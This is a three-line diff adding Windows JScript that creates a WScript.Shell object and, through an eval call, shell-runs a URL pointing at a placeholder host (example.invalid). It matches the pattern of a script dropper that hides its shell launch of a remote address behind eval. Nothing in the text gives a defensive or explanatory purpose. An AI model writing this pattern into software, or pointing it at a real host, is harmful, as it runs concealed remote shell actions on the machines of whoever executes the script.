@@ -1,0 +1,3 @@
+var sh = new ActiveXObject("WScript.Shell");
+var u = "http://example.invalid/";
+eval("sh.Run(u)");
